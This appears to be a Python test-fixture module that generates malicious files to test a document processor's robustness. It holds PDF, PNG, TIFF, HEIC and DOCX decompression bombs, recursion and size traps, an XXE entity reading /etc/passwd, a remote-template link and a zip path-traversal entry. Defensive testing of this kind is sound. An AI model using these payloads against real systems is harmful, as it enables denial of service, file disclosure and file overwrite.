"""Files made to hurt whoever opens them, made while the tests run: small on disk, huge or endless inside."""

import io
import struct
import zipfile
import zlib

import pikepdf
from pikepdf import Array, Dictionary, Name
from PIL import Image

from tests import plan_files

MB = 2**20


def squeezed(megabytes, times=1):
    """So many megabytes of nothing, packed, and packed again; the same packed megabyte over and over."""
    squeeze = zlib.compressobj(9, zlib.DEFLATED, -15)
    squeeze.compress(bytes(MB))
    squeeze.flush(zlib.Z_FULL_FLUSH)
    one = squeeze.compress(bytes(MB)) + squeeze.flush(zlib.Z_FULL_FLUSH)
    sum_of_nothing = struct.pack(">HH", megabytes * MB % 65521, 1)
    content = b"\x78\xda" + one * megabytes + squeeze.flush() + sum_of_nothing
    for _ in range(times - 1):
        content = zlib.compress(content, 9)
    return content


# --- PDF ---


def raw_pdf(*objects, trailer=b"<</Root 1 0 R>>"):
    """A PDF written by hand, without a table: whoever reads it has to look for the objects."""
    body = b"".join(b"%d 0 obj\n%b\nendobj\n" % (number, content) for number, content in enumerate(objects, 1))
    return b"%PDF-1.7\n" + body + b"trailer" + trailer + b"\n%%EOF"


def stream(content, *entries):
    return b"<<%b/Length %d>>\nstream\n%b\nendstream" % (b"".join(entries), len(content), content)


PAGES = b"<</Type/Pages/Kids[3 0 R]/Count 1>>"
PAGE = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]/Contents 4 0 R/Resources<<>>>>"


def pdf_with_deep_lists():
    return raw_pdf(
        b"<</Type/Catalog/Pages 2 0 R/Deep " + b"[" * 200_000 + b"]" * 200_000 + b">>", PAGES, PAGE, stream(b"")
    )


def pdf_with_deep_pages(depth=20_000):
    """Each branch of the tree of pages holds one more branch."""
    branches = [b"<</Type/Pages/Count 1/Kids[%d 0 R]>>" % (number + 1) for number in range(2, depth + 2)]
    return raw_pdf(b"<</Type/Catalog/Pages 2 0 R>>", *branches, b"<</Type/Page/MediaBox[0 0 9 9]>>")


def pdf_with_huge_table():
    """Says that it lists two billion objects."""
    table = b"xref\n0 2000000000\n0000000000 65535 f \n"
    good = raw_pdf(b"<</Type/Catalog/Pages 2 0 R>>", PAGES, PAGE, stream(b""))
    at = len(good)
    return good + b"\n" + table + b"trailer<</Root 1 0 R/Size 2000000000>>\nstartxref\n%d\n%%%%EOF" % (at + 1)


def pdf_with_table_in_a_loop():
    good = raw_pdf(b"<</Type/Catalog/Pages 2 0 R>>", PAGES, PAGE, stream(b""))
    at = len(good) + 1
    end = b"xref\n0 1\n0000000000 65535 f \ntrailer<</Root 1 0 R/Size 5/Prev %d>>\nstartxref\n%d\n%%%%EOF" % (at, at)
    return good + b"\n" + end


def pdf_with_stream_of_objects():
    """Its objects lie in a stream that unpacks to a gigabyte."""
    packed = stream(squeezed(1024), b"/Type/ObjStm/N 100000/First 900000/Filter/FlateDecode")
    table = stream(
        b"\0\0\0\0\xff" + b"\2\0\0\4\0" * 3 + b"\1\0\0\x09\0",
        b"/Type/XRef/Size 5/Root 1 0 R/W[1 3 1]",
    )
    body = b"%PDF-1.7\n4 0 obj\n" + packed + b"\nendobj\n"
    return body + b"5 0 obj\n" + table + b"\nendobj\nstartxref\n%d\n%%%%EOF" % len(body)


def pdf_with_content(content, *filters, **resources):
    file = pikepdf.new()
    page = file.add_blank_page()
    page.obj.Contents = pikepdf.Stream(file, content)
    if filters:
        page.obj.Contents.Filter = Array([Name(name) for name in filters])
    page.obj.Resources = Dictionary({f"/{name}": value for name, value in resources.items()})
    return plan_files.saved(file, compress_streams=False, stream_decode_level=pikepdf.StreamDecodeLevel.none)


def pdf_with_packed_page():
    """What is drawn unpacks to four gigabytes."""
    return pdf_with_content(squeezed(4096, 2), "/FlateDecode", "/FlateDecode")


def pdf_with_broken_font():
    file = pikepdf.open(io.BytesIO(plan_files.pdf()))
    for thing in file.objects:
        if isinstance(thing, Dictionary) and "/FontFile2" in thing:
            thing.FontFile2 = file.make_stream(b"\0\1\0\0\xff\xff" + bytes(range(256)) * 400)
        if isinstance(thing, Dictionary) and "/FontFile3" in thing:
            thing.FontFile3.write(b"\1\0\4\1\xff\xff" + bytes(range(256)) * 400)
    return plan_files.saved(file)


def pdf_with_drawn_letters():
    """A font whose one letter draws a hundred of itself, and so on."""
    file = pikepdf.new()
    page = file.add_blank_page()
    letter = file.make_stream(b"9 0 d0 BT /F 1 Tf " + b"(aaaaaaaaaa) Tj " * 10 + b"ET")
    font = file.make_indirect(
        Dictionary(
            Type=Name.Font,
            Subtype=Name.Type3,
            FontBBox=[0, 0, 9, 9],
            FontMatrix=[1, 0, 0, 1, 0, 0],
            CharProcs=Dictionary(a=letter),
            Encoding=Dictionary(Differences=Array([97, Name.a])),
            FirstChar=97,
            LastChar=97,
            Widths=[9],
        )
    )
    font.Resources = Dictionary(Font=Dictionary(F=font))
    page.obj.Resources = Dictionary(Font=Dictionary(F=font))
    page.obj.Contents = file.make_stream(b"BT /F 1 Tf (a) Tj ET")
    return plan_files.saved(file)


def pdf_with_many_objects(count=300_001):
    return raw_pdf(b"<</Type/Catalog/Pages 2 0 R>>", PAGES, PAGE, stream(b""), *([b"0"] * count))


def pdf_of_a_size(box):
    file = pikepdf.new()
    file.add_blank_page().obj.MediaBox = Array(box)
    return plan_files.saved(file)


def pdf_with_large_attachment():
    return plan_files.pdf_with_attachment(bytes(101 * MB))


# --- pictures ---


def jpeg_of_a_size(width, height):
    """A photo that says another size than it has."""
    content = bytearray(plan_files.photo())
    at = content.index(b"\xff\xc0") + 5
    content[at : at + 4] = struct.pack(">HH", height, width)
    return bytes(content)


def jpeg_of_many_scans(scans=1000):
    """A photo that is drawn over itself again and again."""
    out = io.BytesIO()
    Image.effect_noise((2000, 2000), 60).save(out, "JPEG", quality=5, progressive=True)
    content = out.getvalue()
    last = content.rindex(b"\xff\xda")
    return content[:-2] + content[last:-2][:400] * scans + b"\xff\xd9"


def png_with_packed_words():
    """A small picture whose note unpacks to half a gigabyte."""
    content = plan_files.plain_picture()
    body = b"zTXtComment\0\0" + squeezed(512)
    chunk = struct.pack(">I", len(body) - 4) + body + struct.pack(">I", zlib.crc32(body))
    return content[:33] + chunk + content[33:]


def tiff_that_points_at_itself():
    content = bytearray(plan_files.scan_of_pages(1))
    (start,) = struct.unpack("<I", content[4:8])
    (entries,) = struct.unpack("<H", content[start : start + 2])
    end = start + 2 + entries * 12
    content[end : end + 4] = struct.pack("<I", start)
    return bytes(content)


def tiff_of_a_size(side=200_000):
    content = bytearray(plan_files.scan_of_pages(1))
    (start,) = struct.unpack("<I", content[4:8])
    (entries,) = struct.unpack("<H", content[start : start + 2])
    for at in range(start + 2, start + 2 + entries * 12, 12):
        if struct.unpack("<H", content[at : at + 2])[0] in {256, 257}:
            content[at : at + 12] = content[at : at + 2] + struct.pack("<HII", 4, 1, side)
    return bytes(content)


def heic_of_a_size(side=60_000):
    content = bytearray(plan_files.photo(kind="HEIF"))
    at = -1
    while (at := content.find(b"ispe", at + 1)) >= 0:
        content[at + 8 : at + 16] = struct.pack(">II", side, side)
    return bytes(content)


# --- Word files and text ---


def docx_around(body):
    """A Word file whose body is this XML."""

    def change(parts):
        xml = parts["word/document.xml"]
        start, end = xml.index(b"<w:body>") + 8, xml.rindex(b"</w:body>")
        parts["word/document.xml"] = xml[:start] + body + xml[end:]

    return plan_files.changed_docx(change)


def docx_with_deep_tables(depth=5000):
    return docx_around(b"<w:tbl><w:tr><w:tc>" * depth + b"<w:p/>" + b"</w:tc></w:tr></w:tbl>" * depth)


def docx_with_wide_table(columns=60_000):
    return docx_around(
        b"<w:tbl><w:tr>"
        + b"".join(b"<w:tc><w:p><w:r><w:t>%d</w:t></w:r></w:p></w:tc>" % n for n in range(columns))
        + b"</w:tr></w:tbl>"
    )


def docx_with_many_lines(lines=150_000):
    return docx_around(b"".join(b"<w:p><w:r><w:t>%d</w:t></w:r></w:p>" % (n * 7919) for n in range(lines)))


def docx_with_foreign_words():
    """Asks for a file of the machine that opens it."""

    def change(parts):
        body = parts["word/document.xml"].decode().split("?>", 1)[1]
        foreign = '<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
        parts["word/document.xml"] = f'<?xml version="1.0"?>{foreign}{body}'.encode()

    return plan_files.changed_docx(change)


def docx_with_remote_template():
    link = (
        b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        b'<Relationship Id="r1" TargetMode="External" Target="http://example.invalid/x.dotm" '
        b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"/></Relationships>'
    )
    return plan_files.changed_docx(lambda parts: parts.update({"word/_rels/settings.xml.rels": link}))


def docx_with_the_same_name_twice():
    out = io.BytesIO(plan_files.docx())
    with zipfile.ZipFile(out, "a") as package:
        package.writestr("WORD/document.xml", b"<other/>")
    return out.getvalue()


def docx_that_climbs():
    return plan_files.changed_docx(lambda parts: parts.update({"../../../../tmp/evil.xml": b"<x/>"}))
